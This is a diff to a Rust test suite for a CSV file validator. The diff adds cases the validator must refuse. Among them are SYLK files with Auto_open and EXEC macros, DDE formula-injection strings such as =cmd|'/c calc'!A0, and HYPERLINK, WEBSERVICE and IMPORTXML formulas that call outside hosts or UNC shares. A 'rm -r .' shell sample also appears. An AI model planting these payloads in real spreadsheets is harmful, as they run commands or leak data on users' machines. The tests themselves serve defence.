@@ -34,13 +34,65 @@ fn html(kind: Kind) -> Reason {
 fn a_csv_is_nothing_but_text() {
     let files = [
         ("NUL", b"a;b\0\n".to_vec(), Reason::Content),
-        ("UTF-16", b"\xff\xfea\0;\0".to_vec(), Reason::Content),
+        ("UTF-16 without its mark", b"a\0;\0".to_vec(), Reason::Content),
+        ("half a character of UTF-16", b"\xff\xfea\0;".to_vec(), Reason::Content),
+        ("half a pair of UTF-16", b"\xff\xfe\x3d\xd8a\0".to_vec(), Reason::Content),
+        ("NUL in UTF-16", b"\xff\xfea\0\0\0".to_vec(), Reason::Content),
+        ("a page in UTF-16", utf16("<html><script>"), Reason::Content),
+        ("no character of UTF-32", b"\xff\xfe\0\0a\0\x11\0".to_vec(), Reason::Content),
+        ("text behind the end of one of DOS", b"a;b\n\x1aMZ".to_vec(), Reason::Content),
+        (
+            "bytes beyond ASCII alone",
+            crate::corpus::noise(500).iter().map(|one| one | 0x80).collect(),
+            Reason::Content,
+        ),
+        (
+            "a page that was archived",
+            b"mime-version: 1.0\nContent-Type: multipart/related\n".to_vec(),
+            Reason::Content,
+        ),
+        ("SYLK", b"ID;PWXL;N;E\nC;X1;Y1;K\"a\"\nE\n".to_vec(), Reason::Content),
+        (
+            "SYLK that runs",
+            b"ID;P\r\nO;E\r\nNN;NAuto_open;ER1C1\r\nC;X1;Y1;EEXEC(\"calc\")\r\n".to_vec(),
+            Reason::Content,
+        ),
+        ("SYLK in UTF-16", utf16("id;p\nc;x1;y1;eEXEC(\"calc\")\n"), Reason::Content),
+        ("SYLK with other fields", b"ID;P\nC;N;X1;Y1;K1\n".to_vec(), Reason::Content),
+        ("SYLK behind a mark", b"\xef\xbb\xbfID;P\nC;EEXEC(1)".to_vec(), Reason::Content),
         ("control characters", b"a\x1b[2J\n".to_vec(), Reason::Content),
         ("no character of Windows-1252, nor UTF-8", b"a\x81\xff\n".to_vec(), Reason::Content),
         ("markup", b" \n<svg xmlns='x'/>".to_vec(), Reason::Content),
         ("a shell script", b"#!/bin/sh\nrm -r .\n".to_vec(), Reason::Content),
     ];
     refused(Kind::Csv, files);
+}
+
+#[test]
+fn cells_call_nothing_that_fetches_or_runs() {
+    let outside = [
+        "=cmd|' /C calc'!A0\n",
+        "a;b\n1;+cmd|'/c calc'!A0\n",
+        "1;\"=cmd|'/c calc'!A0\";2\n",
+        "1,\"@HYPERLINK(\"\"\\\\server\\share\"\",\"\"a\"\")\"\n",
+        "=HYPERLINK(\"file:///c:/a\";\"a\")\n",
+        "1\t=IF(1,WEBSERVICE(\"http://x\"),0)\n",
+        " =LIEN_HYPERTEXTE(\"\\\\serveur\\a\")",
+        "=IMPORTXML(CONCAT(\"http://x?\";A1);\"//a\")\n",
+        "='\\\\server\\[a.xlsx]S'!A1\n",
+    ];
+    refused(Kind::Csv, outside.map(|text| (text, text.into(), Reason::ExternalReference)));
+    let wide = utf16("a;b\n1;=cmd|'/c calc'!A0\n");
+    let mut macintosh = b"num\x8ero;=cmd|'/c calc'!A0\r".to_vec();
+    macintosh.extend(b"r\x8fgle;2\r");
+    let encoded = [("UTF-16", wide), ("Mac OS Roman", macintosh)];
+    refused(Kind::Csv, encoded.map(|(name, file)| (name, file, Reason::ExternalReference)));
+    refused(Kind::Csv, [("a macro", b"=EXEC(\"calc\")\n".to_vec(), Reason::Macro)]);
+}
+
+/// Little-endian, with its mark.
+fn utf16(text: &str) -> Vec<u8> {
+    std::iter::once(0xfeff).chain(text.encode_utf16()).flat_map(u16::to_le_bytes).collect()
 }
 
 #[test]
